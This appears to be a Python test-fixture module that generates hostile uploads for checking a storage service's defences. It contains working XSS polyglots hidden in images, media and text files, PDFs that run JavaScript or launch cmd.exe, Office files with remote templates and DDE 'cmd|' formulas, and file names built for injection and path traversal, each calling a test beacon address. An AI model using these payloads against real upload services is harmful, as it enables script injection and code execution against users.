"""Uploads made to do something in the browser of whoever opens them, each with the address that it would call."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable
from typing import Any

import pypdf
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.storage.corpus_bad import BAD
from tests.storage.corpus_files import box, docx, mp3, mp4, pdf, plain_text, pptx, wav, webm, xlsx, zipped
from tests.storage.corpus_photos import jpeg, jpeg_segment, picture, png, png_chunk, webp
from tests.storage.media_sound import id3, info, text_frame, with_chunks

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def script(beacon: str) -> str:
    """What shows that it ran: a mark on every window in reach, a call, and a dialog."""
    return f"self.__ran=1;try{{top.__ran=1}}catch(e){{}}fetch('{beacon}/fetch',{{mode:'no-cors'}});new Image().src='{beacon}/image';alert(1);"


def html(beacon: str) -> bytes:
    return (
        f"<!doctype html><html><head><link rel=stylesheet href='{beacon}/style'></head><body>"
        f"<script>{script(beacon)}</script><img src='{beacon}/img' onerror=\"{script(beacon)}\">"
        f"<iframe src='{beacon}/frame'></iframe></body></html>"
    ).encode()


def svg(beacon: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(beacon)}"><script>{script(beacon)}</script><image href="{beacon}/svg"/></svg>'.encode()


def xhtml(beacon: str) -> bytes:
    return f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{script(beacon)}</script></html>'.encode()


def styled_xml(beacon: str) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{beacon}/xsl"?><!DOCTYPE r SYSTEM "{beacon}/dtd"><r/>'.encode()


def mhtml(beacon: str) -> bytes:
    head = "From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    return head.encode() + html(beacon) + b"\r\n--x--\r\n"


def of_pdf(change: Callable[[pypdf.PdfWriter], None]) -> bytes:
    made = pypdf.PdfWriter(clone_from=io.BytesIO(pdf(1)))
    change(made)
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def action(kind: str, **values: Any) -> DictionaryObject:
    said: dict[Any, Any] = {NameObject("/S"): NameObject(f"/{kind}")}
    said |= {NameObject(f"/{name}"): TextStringObject(value) for name, value in values.items()}
    return DictionaryObject(said)


def opens_with(kind: str, **values: Any) -> bytes:
    def change(made: pypdf.PdfWriter) -> None:
        made.root_object[NameObject("/OpenAction")] = action(kind, **values)

    return of_pdf(change)


def linked_pdf(beacon: str) -> bytes:
    """A link over the whole page, and a form that sends itself."""

    def change(made: pypdf.PdfWriter) -> None:
        corners = ArrayObject([NumberObject(place) for place in (0, 0, 600, 800)])
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): corners,
                NameObject("/A"): action("SubmitForm", F=f"{beacon}/submit"),
            }
        )
        made.pages[0][NameObject("/Annots")] = ArrayObject([link])

    return of_pdf(change)


def attached_pdf(beacon: str) -> bytes:
    return of_pdf(lambda made: _attach(made, beacon))


def _attach(made: pypdf.PdfWriter, beacon: str) -> None:
    made.add_attachment("page.html", html(beacon))
    made.root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): action("JavaScript", JS=f"this.submitForm('{beacon}/form')")}
    )


def related(kind: str, target: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def with_parts(data: bytes, parts: dict[str, bytes | str]) -> bytes:
    """The same package with these parts put in or in place of others."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as came,
        zipfile.ZipFile(out, "w") as made,
        warnings.catch_warnings(),
    ):
        for name in came.namelist():
            if name not in parts:
                made.writestr(name, came.read(name))
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def formulas(beacon: str) -> bytes:
    cells = "".join(
        f'<c r="A{n}"><f>{formula}</f></c>'
        for n, formula in enumerate((f"WEBSERVICE(&quot;{beacon}/cell&quot;)", "cmd|'/C calc'!A0"), 1)
    )
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return with_parts(
        xlsx(),
        {
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{space}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
        },
    )


def contents(beacon: str) -> dict[str, tuple[str, bytes]]:
    """By what is wrong: a name, and the bytes."""
    page, run = html(beacon), script(beacon)
    laced = jpeg()[:2] + jpeg_segment(0xFE, page) + jpeg()[2:]
    return {
        "svg as jpg": ("Photo.jpg", svg(beacon)),
        "svg": ("Drawing.svg", svg(beacon)),
        "html as txt": ("Notes.txt", page),
        "html as pdf": ("Report.pdf", page),
        "html": ("Page.html", page),
        "html behind words": ("Words.txt", b"Only words at first.\n" * 100 + page),
        "gif and script": ("Cat.gif", b"GIF89a/*" + bytes(20) + b"*/=1;" + run.encode()),
        "gif and script as jpg": ("Cat.jpg", b"GIF89a/*" + bytes(20) + b"*/=1;" + run.encode()),
        "jpeg with html": ("Laced.jpg", laced),
        "jpeg and html behind": ("Behind.jpg", jpeg() + page),
        "jpeg and script": (
            "Runs.jpg",
            jpeg()[:2] + jpeg_segment(0xFE, b"*/=1;" + run.encode() + b"/*") + jpeg()[2:],
        ),
        "png with html": (
            "Laced.png",
            png()[:33] + png_chunk(b"tEXt", b"Comment\0" + page) + png()[33:] + page,
        ),
        "webp with html": ("Laced.webp", webp(xmp=page)),
        "pdf that runs": (
            "Runs.pdf",
            opens_with("JavaScript", JS=f"app.alert(1);app.launchURL('{beacon}/js',true)"),
        ),
        "pdf that opens an address": ("Opens.pdf", opens_with("URI", URI=f"{beacon}/uri")),
        "pdf that starts a program": ("Starts.pdf", opens_with("Launch", F="cmd.exe")),
        "pdf that fetches": ("Fetches.pdf", opens_with("GoToR", F=f"{beacon}/gotor")),
        "pdf that sends a form": ("Sends.pdf", linked_pdf(beacon)),
        "pdf with a page attached": ("Attached.pdf", attached_pdf(beacon)),
        "html and pdf": ("Both.pdf", page[:900] + b"\n" + pdf(1)),
        "docx with a template elsewhere": (
            "Template.docx",
            docx(
                {
                    "word/settings.xml": "<w/>",
                    "word/_rels/settings.xml.rels": related("attachedTemplate", f"{beacon}/t.dotm"),
                }
            ),
        ),
        "docx with a picture elsewhere": (
            "Picture.docx",
            docx({"word/_rels/document.xml.rels": related("image", f"{beacon}/p.png")}),
        ),
        "docx with html inside": (
            "Chunk.docx",
            docx(
                {
                    "word/chunk.html": page,
                    "word/_rels/document.xml.rels": related("aFChunk", "chunk.html", outside=False),
                }
            ),
        ),
        "xlsx with formulas": ("Formulas.xlsx", formulas(beacon)),
        "xlsx with a book elsewhere": (
            "Elsewhere.xlsx",
            with_parts(
                xlsx(),
                {
                    "xl/externalLinks/externalLink1.xml": "<x/>",
                    "xl/externalLinks/_rels/externalLink1.xml.rels": related(
                        "externalLinkPath", f"{beacon}/b.xlsx"
                    ),
                },
            ),
        ),
        "pptx with a film elsewhere": (
            "Film.pptx",
            with_parts(pptx(), {"ppt/slides/_rels/slide1.xml.rels": related("video", f"{beacon}/v.mp4")}),
        ),
        "mp4 with html": ("Laced.mp4", mp4() + box(b"free", page)),
        "mp4 and html": ("Both.mp4", mp4()[:24] + page),
        "wav with html": ("Laced.wav", with_chunks(wav(), after=[info(ICMT=page.decode())])),
        "mp3 with html": ("Laced.mp3", id3(text_frame("COMM", page.decode()), 3) + mp3()),
        "webm and html": ("Both.webm", webm() + page),
        "mhtml": ("Page.mht", mhtml(beacon)),
        "mhtml as txt": ("Mail.txt", mhtml(beacon)),
        "xhtml": ("Page.xhtml", xhtml(beacon)),
        "xhtml as txt": ("Data.txt", xhtml(beacon)),
        "xml with a stylesheet": ("Data.xml", styled_xml(beacon)),
        "script as txt": (
            "Worker.txt",
            f"// Only words.\n{run}\nself.onfetch=()=>fetch('{beacon}/worker');\n".encode(),
        ),
        "formula as txt": ("Sums.txt", b"=cmd|' /C calc'!A0\n@SUM(1)\n" + plain_text()),
        "program as jpg": ("Setup.jpg", b"MZ\x90\0" + bytes(200)),
        "flash as jpg": ("Film.jpg", b"CWS\x0a" + bytes(200)),
        "archive as docx": ("Archive.docx", zipped({"index.html": page})),
        "docx that unpacks to much": BAD["docx that unpacks to much"],
        "png of 900 megapixels": BAD["png bomb"],
    }


def names(beacon: str) -> dict[str, tuple[str, bytes]]:
    """Harmless pictures with names that are not."""
    run = script(beacon).replace("/", "\u2215")  # a slash would begin another folder
    wrong = {
        "name that breaks out": f'"><img src=x onerror="{run}">.jpg',
        "name that is a script": f"<script>{run}<∕script>.jpg",
        "name turned around": "Photo\u202egnp.exe.jpg",
        "name with a line of a header": 'a"\r\nContent-Type: text/html\r\nX-Evil: 1.jpg',
        "name that is a formula": "=cmd|' ∕C calc'!A0.jpg",
        "name that is an address": "javascript:alert(1).jpg",
        "name with a path": "..\\..\\..%2f..%2fstatic%2fapp.js.jpg",
        "name for the browser": "{{constructor.constructor('alert(1)')()}}.jpg",
        "name without an end": "a" * 400 + ".jpg",
    }
    return {what: (name, jpeg(picture(64 + number, 48))) for number, (what, name) in enumerate(wrong.items())}


def hostile(beacon: str) -> dict[str, tuple[str, bytes]]:
    return contents(beacon) | names(beacon)
